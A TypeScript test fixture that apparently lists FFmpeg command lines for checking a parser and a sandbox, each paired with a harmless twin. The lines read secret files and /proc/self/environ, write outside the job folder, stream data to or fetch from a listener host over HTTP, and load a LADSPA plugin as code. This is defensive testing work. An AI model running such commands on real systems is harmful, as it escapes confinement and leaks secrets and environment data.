/** Files and addresses that the attacks aim at. */
export type AttackTargets = {
  /** File outside every rule, absolute and relative to the working directory. */
  secret: string
  secretRelative: string
  /** Folder outside that the user may write, absolute and relative. */
  outside: string
  outsideRelative: string
  /** Host and port of a listener; the same with its colon escaped for a filter graph. */
  host: string
  hostEscaped: string
  /** Folder of the inputs. */
  job: string
}

export type AttackCommand = {
  id: string
  /** Arguments behind `ffmpeg -hide_banner -nostdin -y`. */
  attack: string
  /** What the refusal points at. */
  token: string
  /** The same line with the attack taken out; allowed with a zip and OUTPUT_FOLDER. */
  twin: string
}

/**
 * Command lines that read, write, connect or load code outside the job with an unfenced FFmpeg 7:
 * R reads a file, W writes one, N uses the network, X runs code. Kept as a list so that the parser
 * and the sandbox are measured against the same attacks.
 */
export function attackCommands(targets: AttackTargets): AttackCommand[] {
  const { secret, secretRelative, outside, outsideRelative, host, hostEscaped, job } = targets
  const font = '/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf'
  const lines: AttackCommand[] = []
  const add = (id: string, attack: string, token: string, twin: string): void => {
    lines.push({ id, attack, token, twin })
  }
  const reads = [
    secret,
    `file:${secret}`,
    `concat:${secret}`,
    `subfile,,start,0,end,21,,:${secret}`,
    `cache:${secret}`,
    `async:${secret}`,
    'concatf:lstc',
    secretRelative,
    '/proc/self/environ',
  ]
  reads.forEach((path, index) => {
    add(
      `R0${index + 1}`,
      `-f data -i ${path} -map 0 -c copy -f data o.bin`,
      path,
      '-f data -i in.bin -map 0 -c copy -f data o.bin',
    )
  })
  add(
    'R10',
    `-f u8 -ar 8000 -ac 1 -i ${secret} -f u8 o.bin`,
    secret,
    '-f u8 -ar 8000 -ac 1 -i in.bin -f u8 o.bin',
  )
  add(
    'R11',
    `-f rawvideo -pix_fmt gray -s 30x1 -i ${secret} -frames:v 1 -f rawvideo o.bin`,
    secret,
    '-f rawvideo -pix_fmt gray -s 30x1 -i in.bin -frames:v 1 -f rawvideo o.bin',
  )
  add(
    'R12',
    `-f lavfi -i amovie=${secret}:f=u8 -f u8 o.bin`,
    secret,
    '-f lavfi -i amovie=in.bin:f=u8 -f u8 o.bin',
  )
  const attach = (path: string): string =>
    `-i in.mp4 -map 0 -c copy -attach ${path} -metadata:s:t mimetype=text/plain -f matroska o.bin`
  add('R13', attach(secret), secret, attach('notes.txt'))
  add(
    'R14',
    `-i in.mp4 -c copy -/metadata ${secret} -f matroska o.bin`,
    '-/metadata',
    '-i in.mp4 -c copy -metadata title=a -f matroska o.bin',
  )
  add(
    'R15',
    `-i in.mp4 -vf sendcmd=f=${secret} -f null -`,
    secret,
    '-i in.mp4 -vf sendcmd=f=commands.txt -f null -',
  )
  add('R16', `-i in.mp4 -vf null=/x=${secret} -f null -`, '/x', '-i in.mp4 -vf null -f null -')
  add(
    'R17',
    `-/filter_complex ${secret} -i in.mp4 -f null -`,
    '-/filter_complex',
    '-filter_complex [0:v]hflip -i in.mp4 -f null -',
  )
  add(
    'R18',
    `-f lavfi -graph_file ${secret} -i x -f null -`,
    '-graph_file',
    '-f lavfi -i testsrc=d=1 -f null -',
  )
  add(
    'R19',
    '-enable_drefs 1 -use_absolute_path 1 -i dref.mov -map 0:a -c copy -f data o.bin',
    '-enable_drefs',
    '-i dref.mov -map 0:a -c copy -f data o.bin',
  )
  add(
    'R20',
    `-dump -hex -f data -i ${secret} -map 0 -c copy -f null -`,
    '-dump',
    '-f data -i in.bin -map 0 -c copy -f null -',
  )
  add(
    'R21',
    `-i in.mp4 -fpre:v ${secret} -c:v libx264 -f null -`,
    '-fpre:v',
    '-i in.mp4 -preset:v fast -c:v libx264 -f null -',
  )
  add(
    'R22',
    `-f microdvd -i ${secret} -c:s srt -f srt o.bin`,
    secret,
    '-f microdvd -i in.sub -c:s srt -f srt o.bin',
  )
  add(
    'R23',
    `-i in.mp4 -vf drawtext=/text=${secret}:fontfile=${font} -frames:v 1 -f md5 o.md5`,
    '/text',
    `-i in.mp4 -vf drawtext=text=hello:fontfile=${font} -frames:v 1 -f md5 o.md5`,
  )
  const copyTo = (path: string): string => `-i in.mp4 -c copy -f mp4 ${path}`
  add('W01', copyTo(`${outside}/a`), `${outside}/a`, copyTo('a'))
  add('W02', copyTo(`${outsideRelative}/a`), `${outsideRelative}/a`, copyTo('sub/a'))
  const encode = '-i in.mp4 -c:v libx264 -f null -'
  add('W03', `-progress ${outside}/p ${encode}`, '-progress', encode)
  add('W04', `-vstats_file ${outside}/v ${encode}`, '-vstats_file', encode)
  const firstPass = (log: string): string =>
    `-i in.mp4 -c:v libx264 -b:v 100k -pass 1 -passlogfile ${log} -an -f null -`
  add('W05', firstPass(`${outside}/pl`), `${outside}/pl`, firstPass('pl'))
  const encodingStats = (path: string): string =>
    `-i in.mp4 -stats_enc_pre ${path} -c:v libx264 -f null -`
  add('W06', encodingStats(`${outside}/s`), `${outside}/s`, encodingStats('s'))
  add(
    'W07',
    `-dump_attachment:t:0 ${outside}/att -i att.mkv -f null -`,
    '-dump_attachment:t:0',
    '-i att.mkv -f null -',
  )
  const tee = (path: string): string => `-i in.mp4 -map 0 -c copy -f tee '${path}|o2.ts'`
  add('W08', tee(`${outside}/t.mp4`), `${outside}/t.mp4`, tee('t.mp4'))
  const segments = (list: string): string =>
    `-i in.mp4 -c copy -f segment -segment_list ${list} s%d.ts`
  add('W09', segments(`${outside}/l.csv`), `${outside}/l.csv`, segments('l.csv'))
  const hls = (name: string): string =>
    `-i in.mp4 -c copy -f hls -hls_segment_filename ${name} h.m3u8`
  add('W10', hls(`${outside}/h%d.ts`), `${outside}/h%d.ts`, hls('h%d.ts'))
  const filters = [
    ['-vf metadata=print:file=', 'md'],
    ['-vf vidstabdetect=result=', 'tr'],
    ['-vf signature=filename=', 'sig'],
    ['-vf curves=preset=vintage:plot=', 'cp'],
    ['-af firequalizer=dumpfile=', 'fe'],
  ] as const
  filters.forEach(([option, name], index) => {
    const path = `${outside}/${name}`
    add(
      `W${11 + index}`,
      `-i in.mp4 ${option}${path} -f null -`,
      path,
      `-i in.mp4 ${option}${name} -f null -`,
    )
  })
  const x264 = (parameters: string): string =>
    `-i in.mp4 -c:v libx264 -x264-params ${parameters} -an -f null -`
  add('W16', x264(`dump-yuv=${outside}/y`), `dump-yuv=${outside}/y`, x264('dump-yuv=y'))
  const stats = (path: string): string => `pass=1:stats=${path}:bitrate=100`
  add('W17', x264(stats(`${outside}/x`)), stats(`${outside}/x`), x264(stats('x')))
  const csv = (path: string): string => `csv=${path}:csv-log-level=2`
  const x265 = (parameters: string): string =>
    `-i in.mp4 -c:v libx265 -x265-params ${parameters} -an -f null -`
  add('W18', x265(csv(`${outside}/c`)), csv(`${outside}/c`), x265(csv('c')))
  add(
    'N01',
    `-f data -i http://${host}/meta -map 0 -c copy -f data o.bin`,
    `http://${host}/meta`,
    '-f data -i in.bin -map 0 -c copy -f data o.bin',
  )
  const stream = (path: string): string => `-i in.mp4 -c copy -f mpegts ${path}`
  add('N02', stream(`http://${host}/up`), `http://${host}/up`, stream('up.ts'))
  add(
    'N03',
    `-i in.mp4 -c copy -f hls -method PUT http://${host}/up/x.m3u8`,
    '-method',
    '-i in.mp4 -c copy -f hls x.m3u8',
  )
  add(
    'N04',
    `-progress http://${host}/prog -i in.mp4 -f null -`,
    '-progress',
    '-i in.mp4 -f null -',
  )
  add(
    'N05',
    String.raw`-protocol_whitelist file -f lavfi -i 'amovie=http\\://${hostEscaped}/meta:f=u8' -f u8 o.bin`,
    '-protocol_whitelist',
    "-f lavfi -i 'amovie=in.bin:f=u8' -f u8 o.bin",
  )
  add(
    'N06',
    `-i in.mp4 -c copy -f hls -hls_enc 1 -hls_enc_key_url http://${host}/k x.m3u8`,
    '-hls_enc_key_url',
    '-i in.mp4 -c copy -f hls -hls_enc 1 x.m3u8',
  )
  add(
    'N07',
    `-protocol_whitelist file,http,tcp -f hls -i http://${host}/in.mp4 -c copy -f null -`,
    '-protocol_whitelist',
    '-f hls -i in.m3u8 -c copy -f null -',
  )
  add(
    'N08',
    `-i in.mp4 -map 0 -c copy -f tee '[f=mpegts]http://${host}/t|o2.ts'`,
    `http://${host}/t`,
    "-i in.mp4 -map 0 -c copy -f tee '[f=mpegts]t|o2.ts'",
  )
  add(
    'X01',
    `-i in.mp4 -af ladspa=file=${job}/evil.mp4:plugin=x -f null -`,
    'ladspa',
    '-i in.mp4 -af volume=0.5 -f null -',
  )
  return lines
}
